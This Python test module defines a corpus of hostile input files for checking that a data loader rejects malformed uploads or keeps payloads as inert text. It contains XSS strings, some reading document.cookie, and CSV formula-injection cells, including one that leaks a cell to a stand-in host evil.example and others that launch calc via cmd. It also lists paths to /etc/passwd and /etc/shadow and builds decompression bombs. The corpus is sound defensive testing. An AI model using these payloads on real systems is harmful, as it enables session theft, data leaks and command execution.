"""The hostile-input corpus (issue 5): malformed or hostile files and what each must give.

Every entry either makes `core.inputs.io.load_inputs` raise an InputError whose
message holds `error`, or loads with every text listed in `kept` exactly as
written: HTML, script, markdown and spreadsheet formulas are plain data (the
app escapes them on display, `core.inputs.io.spreadsheet_safe` on CSV export).
Small files are committed next to this module; big ones are generated on
demand. tests/ is not a package, so load this module by path:

    spec = importlib.util.spec_from_file_location("hostile_corpus", TESTS / "data/hostile/corpus.py")
    corpus = importlib.util.module_from_spec(spec); spec.loader.exec_module(corpus)
    for entry in corpus.HOSTILE_CORPUS: entry.upload(), entry.error, entry.kept ...

After changing a payload, rewrite the committed inert files with
`PYTHONPATH=. python3 tests/data/hostile/corpus.py` (no `from __future__ import
annotations` here: the dataclass must work when loaded by path).
"""

import csv
import io
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pyarrow as pa
import pyarrow.parquet as pq

from core.inputs.io import MAX_FIELD_CHARS

HERE = Path(__file__).resolve().parent

XSS = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(document.cookie)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body { display: none }</style>",
    "[click me](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "$$\\href{javascript:alert(1)}{x}$$ :red[**fake warning**]",
    "</textarea><b onmouseover=alert(1)>hover</b>{{7*7}}${7*7}",
)
"""Script, HTML, markdown and template payloads; each must show as literal text."""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
)
"""Spreadsheet formula-injection cells (OWASP CSV Injection)."""

UNICODE_TRICKS = (
    "safe\u202egnp.exe",
    "zero\u200bwidth\u200djoiner\ufeff",
    "line\u2028separator\u2029paragraph",
    "עברית and العربية mixed",
    "e\u0301\u0301\u0301 Z\u0336\u0317a\u0335lgo",
    "emoji 😀👩‍👩‍👧 \U0001f9ea",
)
"""Text that renders deceptively but is valid: kept exactly."""

PATHS = (
    "../../../../etc/passwd",
    "file:///etc/shadow",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
"""Image values that point where the app must never go on its own."""


@dataclass(frozen=True)
class Hostile:
    """One corpus file (and its samples file), what is hostile about it, and the outcome."""

    name: str
    what: str
    error: str | None = None
    samples: str | None = None
    kept: tuple[tuple[str, int, str, str], ...] = ()
    """(frame "pool" or "samples", row position, column, exact text) for files that load."""

    def upload(self) -> tuple[str, bytes]:
        """The pool as the app receives an upload."""
        return self.name, content(self.name)

    def samples_upload(self) -> tuple[str, bytes] | None:
        return (self.samples, content(self.samples)) if self.samples else None

    def write(self, folder: Path) -> Path:
        """Write the pool (and samples) file into `folder`; returns the pool's path."""
        for name in filter(None, (self.name, self.samples)):
            (folder / name).write_bytes(content(name))
        return folder / self.name


def content(name: str) -> bytes:
    """The bytes of a corpus file, generated or committed."""
    return GENERATED[name]() if name in GENERATED else (HERE / name).read_bytes()


def _jsonl(*records: dict) -> bytes:
    return "\n".join(json.dumps(record, ensure_ascii=False) for record in records).encode() + b"\n"


def _item(id_: str, **fields: object) -> dict:
    return {"id": id_, "prompt": "What is 2 + 2?", "response": "4", **fields}


def _parquet(records: list[dict]) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(records), buffer)
    return buffer.getvalue()


def _payload_records(payloads: tuple[str, ...]) -> list[dict]:
    """One item per payload, the payload in every text column, reversed in the response."""
    return [
        {
            "id": f"h{k}",
            "prompt": text,
            "response": payloads[-1 - k],
            "answer": text,
            "reference": text,
            "note": text,
        }
        for k, text in enumerate(payloads)
    ]


def _kept(payloads: tuple[str, ...], columns: tuple[str, ...] = ("prompt", "answer", "reference", "note")) -> tuple:
    pool = tuple(("pool", k, column, text) for k, text in enumerate(payloads) for column in columns)
    return pool + tuple(("pool", k, "response", payloads[-1 - k]) for k in range(len(payloads)))


def _duplicate_column_parquet() -> bytes:
    buffer = io.BytesIO()
    table = pa.table([pa.array(["q1"]), pa.array(["What is 2 + 2?"]), pa.array(["4"]), pa.array(["5"])],
                     names=["id", "prompt", "response", "response"])
    pq.write_table(table, buffer)
    return buffer.getvalue()


def _decompression_bomb() -> bytes:
    """2,500 rows repeating one 500,000-character prompt: 40 KB of Parquet, 1.25 GB of text."""
    rows = 2_500
    prompt = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["x" * 500_000]))
    table = pa.table({"id": [f"q{k}" for k in range(rows)], "prompt": prompt, "response": ["4"] * rows})
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


def _nested_bomb() -> bytes:
    """One item whose samples list repeats one 500,000-character answer 2,500 times."""
    answer = pa.DictionaryArray.from_arrays(pa.array([0] * 2_500, pa.int32()), pa.array(["y" * 500_000]))
    samples = pa.ListArray.from_arrays(pa.array([0, 2_500], pa.int32()), answer)
    table = pa.table({"id": ["q1"], "prompt": ["What is 2 + 2?"], "response": ["4"], "samples": samples})
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


GENERATED: dict[str, Callable[[], bytes]] = {
    "huge_prompt.jsonl": lambda: _jsonl(_item("q1"), _item("q2", prompt="x" * (MAX_FIELD_CHARS + 1))),
    "huge_cell.csv": lambda: b"id,prompt,response,notes\nq1,What is 2 + 2?,4," + b"=" * (MAX_FIELD_CHARS + 1) + b"\n",
    "huge_sample_in_pool.jsonl": lambda: _jsonl(_item("q1", samples=["4", "y" * (MAX_FIELD_CHARS + 1)])),
    "deep_nesting.jsonl": lambda: _jsonl(_item("q1")) + b'{"id": "q2", "meta": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n",
    "parquet_named.csv": lambda: _parquet([_item("q1")]),
    "decompression_bomb.parquet": _decompression_bomb,
    "nested_decompression_bomb.parquet": _nested_bomb,
    "wide_keys.jsonl": lambda: _jsonl(*(_item(f"q{k}", **{f"key{k}": 1}) for k in range(4_000))),
    "wide_sample_keys.jsonl": lambda: _jsonl(
        _item("q1", samples=[{"sample": "4", f"key{k}": 1} for k in range(4_000)])
    ),
    "duplicate_columns.parquet": _duplicate_column_parquet,
    "html_script.parquet": lambda: _parquet(_payload_records(XSS)),
    "formula_injection.parquet": lambda: _parquet(_payload_records(FORMULAS)),
}

HOSTILE_CORPUS: tuple[Hostile, ...] = (
    # wrong formats
    Hostile("spreadsheet.xlsx", "an Excel workbook", "unsupported file type ('.xlsx')"),
    Hostile("page.html", "an HTML page with a script", "unsupported file type ('.html')"),
    Hostile("csv_named.jsonl", "CSV content under a .jsonl name", "the line is not valid JSON"),
    Hostile("text_named.parquet", "text under a .parquet name", "not a readable Parquet file"),
    Hostile("parquet_named.csv", "Parquet content under a .csv name", "not UTF-8 text"),
    Hostile("truncated.jsonl", "a JSON line cut short", "the line is not valid JSON"),
    Hostile("not_objects.jsonl", "a JSON line that is an array", "is a list, not a JSON object"),
    Hostile("empty.jsonl", "zero bytes", "the file is empty"),
    Hostile("blank_lines.csv", "only blank lines", "the file is empty"),
    Hostile("header_only.csv", "a header and no rows", "header but no rows"),
    Hostile("semicolons.csv", "semicolon-separated", "not comma-separated"),
    Hostile("ragged.csv", "a row with an extra field", "the row has 4 fields where the first row has 3"),
    Hostile("unclosed_quote.csv", "a quote never closed", "never closed"),
    # broken encodings
    Hostile("latin1.csv", "Latin-1, not UTF-8", "not UTF-8 text"),
    Hostile("utf16.csv", "UTF-16 with a byte-order mark", "UTF-16"),
    Hostile("utf16_no_bom.jsonl", "UTF-16 without a byte-order mark", "UTF-16"),
    Hostile("truncated_utf8.jsonl", "a multi-byte character cut in half", "not UTF-8 text"),
    Hostile("lone_surrogate.jsonl", "a \\u escape of half a character", "lone UTF-16 surrogate"),
    Hostile("control_character.jsonl", "a raw tab inside a JSON string", "Invalid control character"),
    Hostile("nul_character.csv", "a NUL byte inside a cell", "NUL character"),
    # duplicates
    Hostile("duplicate_ids.csv", "one id on two rows", "id 'q1' is used more than once, on rows 2, 4"),
    Hostile("duplicate_keys.jsonl", "a key twice in one JSON object", "with the key 'response' twice"),
    Hostile("duplicate_columns.csv", "a column name twice in the header", "appears twice"),
    Hostile("duplicate_columns.parquet", "a column name twice in a Parquet schema", "appears twice"),
    # huge fields and deep nesting
    Hostile("huge_prompt.jsonl", "a prompt over the size limit", "over the limit"),
    Hostile("huge_cell.csv", "a metadata cell over the size limit", "over the limit"),
    Hostile("huge_sample_in_pool.jsonl", "a sample over the size limit", "over the limit"),
    Hostile("deep_nesting.jsonl", "JSON nested 200,000 levels deep", "nested too deeply"),
    Hostile("nested_decompression_bomb.parquet", "a samples list decoding to 1.25 GB", "MB of data, over the limit"),
    Hostile("wide_keys.jsonl", "4,000 rows, each with its own key: a 4,000-column table", "different columns"),
    Hostile("wide_sample_keys.jsonl", "4,000 samples, each with its own key", "different columns"),
    Hostile("decompression_bomb.parquet", "40 KB of Parquet that decode to 1.25 GB", "MB of data, over the limit"),
    # wrong values
    Hostile("id_object.jsonl", "an id that is a query object", "the id must be text, but it is a JSON object"),
    Hostile("missing_prompt.jsonl", "a row without its prompt", "the prompt is missing or empty"),
    Hostile("label_text.csv", "a label that is a word", "the label is not a number: 'correct'"),
    Hostile("label_formula.csv", "a label that is a formula", "the label is not a number: '=1+1'"),
    Hostile("valid_pool.jsonl", "samples of ids not in the pool", "is not in the pool", samples="unknown_ids_samples.jsonl"),
    Hostile("valid_pool.jsonl", "a positive log-likelihood", "is positive", samples="positive_logprob_samples.csv"),
    # shown inert: loads, text kept exactly
    Hostile("html_script.jsonl", "script and HTML in every text column", samples="html_script_samples.jsonl",
            kept=_kept(XSS) + tuple(("samples", k, "sample", text) for k, text in enumerate(XSS))),
    Hostile("html_script.csv", "script and HTML in a CSV", kept=_kept(XSS)),
    Hostile("html_script.parquet", "script and HTML in Parquet", kept=_kept(XSS)),
    Hostile("formula_injection.csv", "spreadsheet formulas in every cell", kept=_kept(FORMULAS)),
    Hostile("formula_injection.parquet", "spreadsheet formulas in Parquet", kept=_kept(FORMULAS)),
    Hostile("unicode_tricks.jsonl", "bidi overrides, zero-width and combining characters", kept=_kept(UNICODE_TRICKS)),
    Hostile("image_paths.jsonl", "image values pointing at local files and script URLs",
            kept=tuple(("pool", k, "image", path) for k, path in enumerate(PATHS))),
    Hostile("utf8_bom.csv", "a UTF-8 byte-order mark", kept=(("pool", 0, "id", "q1"),)),
)


def write_inert_files() -> None:
    """(Re)write the committed files of the inert entries from the payloads above."""
    (HERE / "html_script.jsonl").write_bytes(_jsonl(*_payload_records(XSS)))
    (HERE / "html_script_samples.jsonl").write_bytes(
        _jsonl(*({"id": f"h{k}", "sample": text, "surrogate": text} for k, text in enumerate(XSS)))
    )
    for name, payloads in (("html_script.csv", XSS), ("formula_injection.csv", FORMULAS)):
        buffer = io.StringIO()
        _write_csv(buffer, _payload_records(payloads))
        (HERE / name).write_text(buffer.getvalue(), encoding="utf-8", newline="")
    (HERE / "unicode_tricks.jsonl").write_bytes(_jsonl(*_payload_records(UNICODE_TRICKS)))
    (HERE / "image_paths.jsonl").write_bytes(_jsonl(*(_item(f"p{k}", image=path) for k, path in enumerate(PATHS))))
    (HERE / "utf8_bom.csv").write_bytes(b"\xef\xbb\xbfid,prompt,response\nq1,What is 2 + 2?,4\n")


def _write_csv(buffer: io.StringIO, records: list[dict]) -> None:
    """RFC 4180 CSV of `records`, every value quoted."""
    writer = csv.DictWriter(buffer, fieldnames=list(records[0]), quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writeheader()
    writer.writerows(records)


if __name__ == "__main__":
    write_inert_files()
